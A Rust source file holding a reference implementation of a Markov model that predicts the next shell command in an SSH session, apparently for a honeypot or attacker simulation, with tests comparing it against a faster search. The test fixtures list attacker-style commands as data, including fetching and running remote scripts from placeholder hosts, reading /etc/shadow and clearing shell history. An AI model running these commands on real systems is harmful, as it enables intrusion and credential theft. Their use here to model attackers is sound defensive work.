//! The prediction as first written: every distribution involved added whole into a map on
//! every call. Kept for tests only, as the definition [`Markov::predict_in`]'s search must
//! reproduce.

use std::borrow::Cow;
use std::collections::{BTreeMap, HashMap};

use super::{Markov, Prediction, SessionContext, key};

impl Markov {
    /// The `k` most likely next commands in this session, most likely first, their
    /// probabilities summing to at most 1. Fetched-file placeholders are spelled out with the
    /// session's names; a guess naming a file the session has not fetched is dropped.
    pub(super) fn predict_whole(&self, context: &SessionContext, k: usize) -> Vec<Prediction> {
        // Guess as typed → (probability, program).
        let mut guesses: BTreeMap<Cow<'_, str>, (f64, &str)> = BTreeMap::new();
        for (token, score) in self.scores_whole(context) {
            let Some(surface) = context.spell(token) else {
                continue;
            };
            let program = self.program_of.get(token).map_or("", String::as_str);
            guesses.entry(surface).or_insert((0.0, program)).0 += score;
        }
        let total: f64 = guesses.values().map(|g| g.0).sum();
        if total > 0.0 {
            for guess in guesses.values_mut() {
                guess.0 /= total;
            }
        }
        let lost = !guesses.is_empty() && guesses.values().all(|g| g.0 < self.lost_below);
        if self.cache_weight > 0.0 && (lost || context.human_like(self.human_gap)) {
            let cached = context.cache();
            if !cached.is_empty() {
                let model_share = if guesses.is_empty() {
                    0.0
                } else {
                    1.0 - self.cache_weight
                };
                for guess in guesses.values_mut() {
                    guess.0 *= model_share;
                }
                for (token, p, program) in cached {
                    guesses
                        .entry(Cow::Borrowed(token))
                        .or_insert((0.0, program))
                        .0 += (1.0 - model_share) * p;
                }
            }
        }
        if self.typo_weight > 0.0
            && let Some(id) = super::typo::correction(self.index(), context)
            && let Some(token) = self.index().tokens.get(id as usize)
            && let Some(surface) = context.spell(token)
        {
            let share = self.typo_weight.clamp(0.0, 1.0);
            for guess in guesses.values_mut() {
                guess.0 *= 1.0 - share;
            }
            let program = self
                .program_of
                .get(token.as_str())
                .map_or("", String::as_str);
            guesses
                .entry(Cow::Owned(surface.into_owned()))
                .or_insert((0.0, program))
                .0 += share;
        }
        let mut ranked: Vec<(Cow<'_, str>, (f64, &str))> = guesses.into_iter().collect();
        ranked.sort_by(|a, b| b.1.0.total_cmp(&a.1.0).then_with(|| a.0.cmp(&b.0)));
        ranked
            .into_iter()
            .take(k)
            .map(|(token, (probability, program))| Prediction {
                token: token.into_owned(),
                program: program.to_owned(),
                probability,
            })
            .collect()
    }

    /// Unnormalised scores of the model-form next tokens.
    fn scores_whole(&self, context: &SessionContext) -> BTreeMap<&str, f64> {
        let (tokens, reach) = context.items(false, self.order);
        let mut scores: BTreeMap<&str, f64> = BTreeMap::new();
        let mut token_order = None;
        if self.escape > 0.0 {
            // Witten-Bell: each longer context that was seen takes over in proportion to how
            // often it was seen against how many different commands followed it.
            for n in 0..=reach {
                let Some(dist) = self.tokens.get(&key(&tokens, n)) else {
                    continue;
                };
                token_order = Some(n);
                let seen = f64::from(dist.values().sum::<u32>());
                let distinct = dist.len() as f64;
                let keep = if scores.is_empty() {
                    0.0
                } else {
                    self.escape * distinct / (seen + self.escape * distinct)
                };
                for value in scores.values_mut() {
                    *value *= keep;
                }
                add(&mut scores, dist, 1.0 - keep);
            }
        } else {
            let mut weight = 1.0;
            for n in (0..=reach).rev() {
                let Some(dist) = self.tokens.get(&key(&tokens, n)) else {
                    continue;
                };
                token_order.get_or_insert(n);
                add(&mut scores, dist, weight);
                weight *= self.backoff;
            }
        }
        let (programs, reach) = context.items(true, self.order);
        let program_order = (0..=reach)
            .rev()
            .find_map(|n| self.programs.get(&key(&programs, n)).map(|d| (n, d)));
        if let Some((n, dist)) = program_order
            && token_order.is_none_or(|t| n > t)
        {
            let total: u32 = dist.values().sum();
            let scale = scores.values().sum::<f64>().max(f64::MIN_POSITIVE);
            for value in scores.values_mut() {
                *value *= (1.0 - self.program_weight) / scale;
            }
            for (program, count) in dist {
                let share = self.program_weight * f64::from(*count) / f64::from(total.max(1));
                if let Some(commands) = self.by_program.get(program) {
                    add(&mut scores, commands, share);
                }
            }
        }
        scores
    }
}

fn add<'a>(scores: &mut BTreeMap<&'a str, f64>, dist: &'a HashMap<String, u32>, weight: f64) {
    let total: u32 = dist.values().sum();
    for (token, count) in dist {
        *scores.entry(token.as_str()).or_default() +=
            weight * f64::from(*count) / f64::from(total.max(1));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::markov::Login;
    use crate::models::normalize::{Normalized, normalize_line};

    /// The search and the whole sum agree on the guesses, their order and programs, and their
    /// probabilities up to rounding.
    fn assert_same(model: &Markov, context: &SessionContext, what: &str) {
        for k in [1, 3, 10] {
            let fast = model.predict_in(context, k);
            let whole = model.predict_whole(context, k);
            let tokens = |p: &[Prediction]| -> Vec<(String, String)> {
                p.iter()
                    .map(|p| (p.token.clone(), p.program.clone()))
                    .collect()
            };
            assert_eq!(tokens(&fast), tokens(&whole), "{what}, k = {k}");
            for (f, w) in fast.iter().zip(&whole) {
                assert!(
                    (f.probability - w.probability).abs() < 1e-9,
                    "{what}, k = {k}: {fast:?} vs {whole:?}"
                );
            }
        }
    }

    fn session(lines: &[&str]) -> Vec<Normalized> {
        lines.iter().flat_map(|l| normalize_line(l)).collect()
    }

    /// Sessions with the shapes that make the search hard: shared prefixes, fetched files
    /// typed as placeholders and literally, unseen arguments (the program chain), logins and
    /// person-like pauses (the cache).
    fn corpus() -> Vec<(Login, Vec<Normalized>)> {
        let login = |user: &str| Login {
            client: Some("SSH-2.0-Go".into()),
            username: Some(user.into()),
            password: Some("x".into()),
        };
        let scripts: [&[&str]; 8] = [
            &[
                "uname -a",
                "cd /tmp",
                "wget http://a/x.sh",
                "chmod 777 x.sh",
                "sh x.sh",
                "rm x.sh",
            ],
            &[
                "uname -a",
                "cd /tmp",
                "wget http://b/y.sh",
                "chmod +x y.sh",
                "./y.sh",
                "rm -rf y.sh",
            ],
            &["uname -a", "cd /tmp", "sh x.sh", "cat x.sh", "w"],
            &["cat /proc/cpuinfo", "free -m", "w", "uname -a", "id"],
            &[
                "cat /etc/passwd",
                "cat /etc/shadow",
                "ls -la",
                "cd /var",
                "ls -la",
            ],
            &["cd /tmp; wget http://c/a.sh; wget http://c/b.sh; cp a.sh b.sh; sh a.sh b.sh"],
            &[
                "ls",
                "ls -a",
                "cd /home",
                "ls -a",
                "cat .bash_history",
                "exit",
            ],
            &["nproc", "echo hi", "ps aux", "kill 1", "history -c"],
        ];
        let mut out = Vec::new();
        for (i, script) in scripts.iter().enumerate() {
            for copy in 0..=(i % 3) {
                let who = if copy == 0 {
                    Login::default()
                } else {
                    login(["root", "pi"][i % 2])
                };
                out.push((who, session(script)));
            }
        }
        out
    }

    #[test]
    fn the_search_finds_what_the_whole_sum_does() {
        let corpus = corpus();
        let mut model = Markov::new(3);
        for (login, commands) in &corpus {
            model.train_in(login, commands);
        }
        let probes = [
            session(&["uname -a", "cd /tmp", "wget http://z/x.sh"]),
            session(&[
                "uname -a",
                "cd /tmp",
                "wget http://z/q.sh",
                "chmod 777 q.sh",
                "sh q.sh",
            ]),
            session(&["cd /tmp; wget http://c/b.sh; wget http://c/a.sh; cp b.sh a.sh"]),
            session(&["cat /etc/group", "ls -l", "cd /srv", "ls -a", "cd /opt"]),
            session(&["nproc", "echo bye", "ps", "kill 9"]),
            session(&["vi", "emacs", "nano"]),
            // Slips one edit from a known command (typo correction).
            session(&["cat /etc/passwd", "cat /etc/shadwo", "ls -la", "cd /tpm"]),
            session(&["uname -a", "cd /tpm", "nprco"]),
        ];
        let mut sessions = corpus.clone();
        sessions.extend(probes.iter().map(|p| (Login::default(), p.clone())));
        for (login, commands) in &sessions {
            for gap in [0.1, 5.0] {
                let mut context = SessionContext::new(login);
                assert_same(&model, &context, "start");
                for (i, command) in commands.iter().enumerate() {
                    context.push(command, Some(gap * i as f64));
                    assert_same(
                        &model,
                        &context,
                        &format!("{:?} after {i}", commands[i].token),
                    );
                }
            }
        }
        // Witten-Bell weights and a heavier program chain take the same search.
        model.escape = 1.0;
        model.program_weight = 0.9;
        for commands in &probes {
            let context = SessionContext::from_commands(commands);
            assert_same(&model, &context, "escape");
        }
    }
}

#[cfg(test)]
mod shipped {
    use std::path::Path;

    use super::*;
    use crate::models::Models;
    use crate::models::markov::Login;
    use crate::models::normalize::normalize_line;
    use crate::sim::scenario::{Scenario, collect};

    /// With the shipped model, over every scenario's commands (as a session sees them, with
    /// its login and pauses), the search gives the whole sum's guesses.
    #[test]
    fn the_shipped_model_predicts_the_same_through_the_search() {
        let root = Path::new(env!("CARGO_MANIFEST_DIR"));
        let models = Models::load(&root.join("models")).expect("models/ loads");
        let model = models.markov.expect("models/ has a next-command model");
        let mut predicted = 0;
        for file in collect(&[root.join("scenarios")]).expect("scenarios/ readable") {
            let Ok(scenario) = Scenario::load(&file) else {
                continue;
            };
            let credential = scenario.attacker.credentials.last();
            let login = Login {
                client: Some(scenario.attacker.client.clone()),
                username: credential.map(|c| c.username.clone()),
                password: credential.map(|c| c.password.clone()),
            };
            let mut context = SessionContext::new(&login);
            let mut at = 0.0;
            for step in &scenario.steps {
                at += step.value.delay;
                for line in step.value.input.iter().flat_map(|i| i.lines()) {
                    for command in normalize_line(line) {
                        context.push(&command, Some(at));
                        for k in [1, 3, 5] {
                            let fast = model.predict_in(&context, k);
                            let whole = model.predict_whole(&context, k);
                            assert_eq!(fast.len(), whole.len(), "{file:?} {line:?}");
                            for (f, w) in fast.iter().zip(&whole) {
                                assert_eq!((&f.token, &f.program), (&w.token, &w.program));
                                assert!((f.probability - w.probability).abs() < 1e-9);
                            }
                        }
                        predicted += 1;
                    }
                }
            }
        }
        assert!(predicted > 300, "scenarios give {predicted} commands");
    }
}
